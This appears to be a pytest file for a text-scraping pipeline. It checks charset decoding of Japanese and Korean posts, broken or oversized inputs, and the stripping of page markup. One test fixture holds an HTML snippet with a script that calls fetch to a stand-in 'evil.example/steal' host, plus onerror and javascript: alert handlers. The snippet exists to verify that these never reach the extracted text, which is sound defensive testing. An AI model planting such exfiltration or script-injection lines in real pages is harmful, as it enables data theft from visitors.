"""Bad content through the real path (loopback site → raw/ → curated/): a record or a clear error, nothing lost."""

from __future__ import annotations

import json
import os
import time
import zlib
from pathlib import Path

import pytest

from notepipe.cli import main
from notepipe.config import Config
from notepipe.curate import curate
from notepipe.sources import SourceReport, scrape
from tests.fetch.helpers import BLOG, REPO, curated_rows, site_config, snapshots
from tests.site import FixtureSite

SITE_POSTS = 5 + 4 + 3  # qiita, hatena, github posts of the fixture site
JA = "注意機構だけで翻訳モデルを作った論文を読んだ"
KO = "어텐션만으로 번역 모델을 만든 논문을 읽었다"
JA_MD = f"# 論文メモ\n\n{JA}。髙橋さんのおすすめ。\nhttps://arxiv.org/abs/1706.03762\n"
KO_MD = f"# 논문 리뷰\n\n{KO}. 똠방각하 같은 제목.\nhttps://arxiv.org/abs/1706.03762\n"  # 똠: CP949, not EUC-KR
# (name, text, codec, charset label): each phrase uses characters only that codec has.
LEGACY = [
    ("sjis", JA_MD, "cp932", "Shift_JIS"),
    ("eucjp", JA_MD.replace("髙", "高"), "euc_jp", "EUC-JP"),
    ("euckr", KO_MD.replace(" 똠방각하 같은 제목.", ""), "euc_kr", "EUC-KR"),
    ("cp949", KO_MD, "cp949", "CP949"),
]


def _html(body: str, charset: str) -> str:
    return (f'<!DOCTYPE html><html><head><meta charset="{charset}"><title>メモ</title></head>'
            f"<body><article><p>{body}</p></article></body></html>")


def _github(site: FixtureSite, name: str, data: bytes, content_type: str | None = None) -> str:
    site.add_github_file(REPO, f"reviews/{name}.md", data, content_type)
    return f"github:{REPO}/reviews/{name}.md"


def _run(config: Config, added: int) -> tuple[dict[str, dict], dict[str, dict], list[SourceReport]]:
    """Scrape and curate; check nothing is lost or duplicated and raw/ holds one snapshot per fetched version."""
    reports = scrape(config, full=True)
    curate(config.raw_dir, config.curated_dir)
    rows = curated_rows(config)
    ids = [r["id"] for r in rows]
    assert len(ids) == len(set(ids)), "no duplicate ids"
    errors = [json.loads(line) for line in
              Path(config.curated_dir, "errors.jsonl").read_text(encoding="utf-8").splitlines()]
    by_url = {e["url"].rsplit("/", 1)[-1].removesuffix(".md"): e for e in errors}
    failed = sum(r.failed for r in reports)
    fetched = SITE_POSTS + added - failed
    assert len(snapshots(config)) == fetched, "one snapshot per fetched version"
    assert sum(e["stage"] == "fetch" for e in errors) == failed, "fetch failures are listed in errors.jsonl too"
    assert len(rows) + len(errors) - failed == fetched, "every snapshot is a record or an error line"
    return {r["id"]: r for r in rows}, by_url, reports


def test_legacy_charsets_decode_to_the_right_text(site: FixtureSite, config: Config) -> None:
    expect = {}
    for name, text, codec, charset in LEGACY:
        body = " ".join(text.split("\n\n")[1].split())
        phrase = JA if codec in {"cp932", "euc_jp"} else KO
        extra = {"sjis": "髙橋さん", "cp949": "똠방각하"}.get(name, phrase)
        expect[_github(site, f"{name}-header", text.encode(codec), f"text/plain; charset={charset}")] = phrase, extra
        expect[_github(site, f"{name}-meta", _html(body, charset).encode(codec), "text/html")] = phrase, extra
        expect[_github(site, f"{name}-none", text.encode(codec), "text/plain")] = phrase, extra
    # raw.githubusercontent.com says `charset=utf-8` whatever the bytes are: a wrong label must not win.
    expect[_github(site, "sjis-mislabelled", JA_MD.encode("cp932"))] = JA, "髙橋さん"
    records, errors, _ = _run(config, added=len(expect))
    assert not errors
    for key, (phrase, extra) in expect.items():
        record = records[key]
        assert phrase in record["text"] and extra in record["text"], (key, record["text"])
        assert record["lang"] == ("ja" if phrase == JA else "ko") and "1706.03762" in record["arxiv_ids"]
        assert "\ufffd" not in record["text"]


def test_undecodable_empty_and_nul_inputs(site: FixtureSite, config: Config) -> None:
    stray = _github(site, "stray-bytes", JA_MD.encode() + b"\xff\xfe\xc3(" + JA_MD.encode())
    _github(site, "invalid-utf8", b"".join(JA.encode()[i:i + 2] + b"\xff" for i in range(0, 60, 2)))
    nul = _github(site, "nul", JA_MD.replace("。", "。\x00").encode())
    _github(site, "empty", b"")
    png = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + zlib.compress(os.urandom(4000))
    _github(site, "binary", png, "text/html")
    records, errors, _ = _run(config, added=5)
    assert JA in records[nul]["text"] and "\x00" not in records[nul]["text"] + "".join(records[nul]["tokens"])
    # A few stray bytes in otherwise good UTF-8 cost those bytes (marked U+FFFD), not the post.
    assert records[stray]["text"].count("\ufffd") == 3 and records[stray]["text"].count(JA) == 2
    assert {k: (e["stage"], e["error"]) for k, e in errors.items()} == {
        "invalid-utf8": ("decode", "UndecodableError"), "binary": ("decode", "UndecodableError"),
        "empty": ("extract", "EmptyInputError")}
    assert "not valid UTF-8 (invalid continuation byte at byte 0)" in errors["invalid-utf8"]["message"]
    assert errors["empty"]["message"] == "the input is empty (no text after decoding)"
    assert all(e["source_path"].startswith("raw/github/") for e in errors.values())


def _big_page() -> bytes:
    bundle = "x" * 10_000_000  # an inlined script bundle: a 10 MB page with a short article
    return (f'<!DOCTYPE html><html><head><meta charset="utf-8"><script>var b="{bundle}";</script></head>'
            f"<body><article><h1>大きなページ</h1><p>{JA}。</p></article></body></html>").encode()


def test_huge_paragraph_deep_nesting_and_a_10mb_page(site: FixtureSite, config: Config) -> None:
    sentence = "注意機構は系列の全位置を同時に見るので並列化しやすい"
    huge = _github(site, "huge-paragraph", f"# 長い段落\n\n{sentence * 14_000}\n".encode())  # 1 MB, one line
    nested = "<div>" * 10_000 + "<p>深い入れ子の中の本文です。</p>" + "</div>" * 10_000
    deep = _github(site, "nested", f"<!DOCTYPE html><html><body><article>{nested}</article></body></html>".encode(),
                   "text/html; charset=utf-8")
    big = _github(site, "big-page", _big_page(), "text/html; charset=utf-8")
    started = time.monotonic()
    records, errors, _ = _run(config, added=3)
    assert time.monotonic() - started < 30, "linear in the input: a quadratic regex took minutes on the paragraph"
    assert not errors
    assert len(records[huge]["text"]) == 14_000 * len(sentence) and records[huge]["lang"] == "ja"
    assert "".join(records[huge]["tokens"]) == records[huge]["text"]  # fugashi got it in chunks, every char kept
    assert records[deep]["text"] == "深い入れ子の中の本文です。"
    assert records[big]["title"] == "大きなページ" and records[big]["text"] == f"{JA}。"


def test_a_page_over_max_bytes_is_refused_and_the_run_goes_on(site: FixtureSite, tmp_path: Path) -> None:
    config = site_config(site, tmp_path, max_bytes=5_000_000)
    _github(site, "big-page", _big_page(), "text/html; charset=utf-8")
    records, errors, reports = _run(config, added=1)
    github = next(r for r in reports if r.kind == "github")
    assert (github.failed, github.new) == (1, 3) and len(records) == SITE_POSTS
    assert list(errors) == ["big-page"] and errors["big-page"]["stage"] == "fetch"
    [error] = github.errors
    assert error.stage == "fetch" and error.error == "TooLargeError" and "max_bytes=5000000" in error.message
    assert error.url is not None and error.url.endswith("big-page.md")
    [run_log] = Path(config.raw_dir, "_state", "runs").glob("*.json")
    assert "big-page.md" in run_log.read_text(encoding="utf-8")


SCRIPTED = """<p>本文の一段落目。</p>
<script>document.write("SCRIPT_TEXT"); fetch("https://evil.example/steal")</script>
<style>.entry-content { color: red } /* STYLE_TEXT */</style>
<noscript>NOSCRIPT_TEXT を有効にしてください</noscript>
<p><img src="x.png" onerror="alert('ONERROR_CODE')" alt="図1"> <a href="javascript:alert('JSLINK_CODE')">リンク文字</a></p>
<p onclick="CLICK_CODE()">本文の二段落目。</p>
"""


def test_scripts_styles_and_handlers_never_reach_the_text(site: FixtureSite, config: Config) -> None:
    entry, chrome_only = "/entry/2025/02/03/210000", "/entry/2025/01/20/083000"
    site.update_hatena_entry(BLOG, entry, html=SCRIPTED)
    site.update_hatena_entry(BLOG, chrome_only, html="")  # the page is only header, sidebar and footer
    records, errors, _ = _run(config, added=0)
    record = records[f"hatena:{BLOG}{entry}"]
    assert "本文の一段落目。" in record["text"] and "本文の二段落目。" in record["text"] and "リンク文字" in record["text"]
    dump = record["text"] + " ".join(record["tokens"]) + json.dumps(record["links"])
    for leaked in ("SCRIPT", "STYLE", "NOSCRIPT", "ONERROR", "JSLINK", "CLICK", "evil.example", "javascript:",
                   "color: red", "alert", "document.write"):
        assert leaked not in dump, leaked
    # Only chrome: no record made of header, sidebar and footer text, and no empty record either: an error line.
    assert f"hatena:{BLOG}{chrome_only}" not in records
    empty = errors[chrome_only.rsplit("/", 1)[-1]]
    assert (empty["stage"], empty["error"]) == ("extract", "ChromeOnlyError")
    assert empty["message"] == ("no post content left once the page chrome is removed "
                                "(title: Chain-of-Thought プロンプティングの論文を読んだ)")


LOCAL = [
    ("sjis.md", JA_MD.encode("cp932"), JA),
    ("eucjp.html", _html(JA, "EUC-JP").encode("euc_jp"), JA),
    ("euckr.txt", KO_MD.replace(" 똠방각하 같은 제목.", "").encode("euc_kr"), KO),
    ("cp949.md", KO_MD.encode("cp949"), "똠방각하"),
    # 7-bit ISO-2022-JP is valid UTF-8 byte for byte, escapes and all (and has no 髙, a CP932 extension).
    ("iso2022jp.md", JA_MD.replace("髙", "高").encode("iso2022_jp"), JA),
    ("nul.md", JA_MD.replace("。", "。\x00").encode(), JA),
    ("nested.html", ("<div>" * 10_000 + f"<p>{JA}</p>" + "</div>" * 10_000).encode(), JA),
    ("stray.md", JA_MD.encode() + b"\xff\xfe" + JA_MD.encode(), JA),
    ("invalid.md", b"".join(JA.encode()[i:i + 2] + b"\xff" for i in range(0, 60, 2)), "decode"),
    ("empty.md", b"", "extract"),
    ("binary.html", b"\x89PNG\r\n\x1a\n" + zlib.compress(os.urandom(2000)), "decode"),
    # A lone surrogate escape (an emoji cut in half by some exporter): the post is kept, the half is U+FFFD.
    ("surrogate.json", json.dumps({"id": "0123456789abcdef0123", "title": "途中で切れた\ud83d絵文字",
                                   "user": {"id": "writer"}, "tags": [{"name": "NLP\udc00"}],
                                   "body": f"{JA}\n\n半分だけ\ud83dの文字"}).encode(), JA),
]


@pytest.mark.parametrize(("name", "data", "expect"), LOCAL, ids=[case[0] for case in LOCAL])
def test_normalize_on_local_files(tmp_path: Path, name: str, data: bytes, expect: str) -> None:
    path, out, err = tmp_path / name, tmp_path / "out.jsonl", tmp_path / "errors.jsonl"
    path.write_bytes(data)
    assert main(["normalize", str(path), "-o", str(out), "--errors", str(err), "-q"]) == 0
    records = [json.loads(line) for line in out.read_text(encoding="utf-8").splitlines()]
    errors = [json.loads(line) for line in err.read_text(encoding="utf-8").splitlines()] if err.exists() else []
    if expect in {"decode", "extract"}:
        assert not records and [(e["stage"], e["source_path"]) for e in errors] == [(expect, str(path))]
        assert errors[0]["message"]
    else:
        assert not errors and len(records) == 1 and expect in records[0]["text"]
    if name == "surrogate.json":
        [record] = records
        assert record["title"] == "途中で切れた\ufffd絵文字" and record["tags"] == ["NLP\ufffd"]
        assert "半分だけ\ufffdの文字" in record["text"]
